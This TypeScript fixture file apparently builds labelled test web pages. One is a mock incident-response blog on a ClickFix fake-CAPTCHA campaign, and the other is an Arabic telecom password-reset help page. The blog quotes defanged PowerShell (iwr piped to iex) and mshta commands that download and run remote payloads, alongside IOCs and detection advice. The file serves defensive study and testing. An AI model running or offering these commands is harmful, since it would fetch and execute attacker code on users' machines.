import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, json, js, gtag, cookieBar, footerLinks, esc } from '../parts/yl-kit.js';

const artCss = (accent: string): string => `body{margin:0;font-family:Georgia,'Times New Roman',serif;color:#222;background:#fff}.nav{display:flex;justify-content:space-between;align-items:center;padding:14px 30px;border-bottom:1px solid #eee;font-family:Arial,sans-serif}.nav a{margin:0 10px;color:#333;text-decoration:none;font-size:14px}
article{max-width:760px;margin:30px auto;padding:0 20px;font-size:18px;line-height:1.8}article h1{font-size:34px;line-height:1.25;font-family:Arial,sans-serif}.meta{font-size:13px;color:#777;font-family:Arial,sans-serif}
blockquote.sms{background:#f1f5f9;border-radius:14px;padding:12px 16px;font-family:Arial,sans-serif;font-size:15px;max-width:460px;border:0;margin:14px 0}blockquote.sms small{display:block;color:#888;font-size:12px;margin-bottom:4px}
pre{background:#0f172a;color:#e2e8f0;padding:14px;border-radius:6px;overflow:auto;font-size:14px;line-height:1.5;direction:ltr;text-align:left}code{font-family:Consolas,Menlo,monospace}.tip{border-left:4px solid ${accent};background:#fafafa;padding:12px 16px;margin:18px 0}
footer{border-top:1px solid #eee;padding:20px 30px;font-size:13px;color:#777;font-family:Arial,sans-serif}`;

export const entries: Entry[] = [
{
  id: 'yl-clean-dfir-blog-clickfix-gulf',
  label: 'clean',
  kind: 'security-blog-quoting-commands',
  url: 'https://www.helix-dfir.ae/blog/2025/clickfix-campaign-targets-gulf-smb-websites',
  body: doc({
    title: 'ClickFix campaign hits Gulf SMB websites: fake CAPTCHA to PowerShell | Helix DFIR',
    head: gtag('G-HELIX01BL'),
    css: artCss('#0ea5e9'),
    body: `<div class="nav">${wordmark('helix//dfir', '#0f172a', { size: 22 })}<div><a href="#">Services</a><a href="#">Blog</a><a href="#">Incident response: +971 4 210 9911</a></div></div>
<article><p class="meta">Threat research · 12 min read</p><h1>ClickFix campaign hits Gulf SMB websites: from fake CAPTCHA to PowerShell</h1>
<p>Over the past month our incident response team handled seven cases in the UAE, Qatar and Jordan where employees infected their own workstations after visiting legitimate but compromised business websites: a real estate broker, a restaurant and a law firm. In every case an injected script displayed a fake "Verify you are human" check.</p>
<h2>The lure</h2><p>Clicking the checkbox silently copies a command to the clipboard and shows instructions: press <code>Win</code>+<code>R</code>, press <code>Ctrl</code>+<code>V</code>, press <code>Enter</code>. The copied text ends with a comment so that only the harmless-looking tail is visible in the Run dialog:</p>
<pre><code>powershell -w h -nop -c "$r=iwr 'hxxps://ae-cdn-check[.]com/v.txt' -UseBasicParsing;iex $r.Content" # ✅ I am not a robot - reCAPTCHA Verification ID: 4821</code></pre>
<p>A Turkish-language variant uses <code>mshta</code> instead:</p><pre><code>mshta hxxps://tr-dogrulama-servisi[.]com/captcha/verify.hta # ✔ Ben robot değilim - reCAPTCHA Doğrulama Kimliği: 51839</code></pre>
<h2>Injection point</h2><p>The compromised WordPress sites loaded a script disguised as <code>jquery-migrate.min.js</code> from <code>cdn-jsdelivr-stats[.]com</code>. The script only runs on Windows user agents and skips crawlers.</p>
<h2>Detection</h2><p>Hunt for RunMRU entries containing <code>powershell</code> or <code>mshta</code> with a trailing comment:</p>
<pre><code>Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU' |
  Select-Object * -ExcludeProperty PS* | Format-List</code></pre>
<div class="tip"><b>Mitigations:</b> disable the Run dialog via GPO for standard users where practical, enable PowerShell Constrained Language Mode, block <code>mshta.exe</code> with AppLocker/WDAC, and train staff that no website will ever ask them to paste commands.</div>
<h2>IOCs</h2><pre><code>ae-cdn-check[.]com
cdn-jsdelivr-stats[.]com
tr-dogrulama-servisi[.]com
jo-fonts-cdn[.]com</code></pre></article>
<footer>© 2025 Helix DFIR FZ-LLC · Dubai Silicon Oasis</footer>`,
  }),
},
{
  id: 'yl-clean-stc-password-reset-help-ar',
  label: 'clean',
  kind: 'password-help-article',
  url: 'https://www.stc.com.sa/content/stc/sa/ar/personal/help/mystc/reset-password.html',
  body: doc({
    title: 'كيف أستعيد كلمة المرور لحساب mystc؟ | stc',
    lang: 'ar',
    css: artCss('#4f008c').replace("font-family:Georgia,'Times New Roman',serif", "font-family:Tahoma,Arial,sans-serif"),
    body: `<div class="nav">${wordmark('stc', '#4f008c', { size: 30 })}<div><a href="#">الأفراد</a><a href="#">الأعمال</a><a href="#">المساعدة</a></div></div>
<article><p class="meta">المساعدة › mystc › الحساب</p><h1>كيف أستعيد كلمة المرور لحساب mystc؟</h1>
<ol><li>افتح تطبيق mystc أو صفحة تسجيل الدخول على stc.com.sa.</li><li>اضغط «نسيت كلمة المرور؟».</li><li>أدخل رقم الجوال المسجل، وسيصلك رمز تحقق برسالة نصية من <b>stc</b>.</li><li>أدخل الرمز ثم أنشئ كلمة مرور جديدة من 8 أحرف على الأقل تحتوي على أرقام وحروف.</li></ol>
<div class="tip"><b>تنبيه:</b> رمز التحقق للاستخدام الشخصي فقط. موظفو stc لن يطلبوا منك الرمز أبداً. إذا وصلك رمز لم تطلبه فقد يكون شخص ما يحاول الدخول إلى حسابك: غيّر كلمة المرور واتصل على 900.</div>
<p>هل كانت هذه المقالة مفيدة؟ نعم · لا</p></article>
<footer>© 2025 stc</footer>`,
  }),
},
];
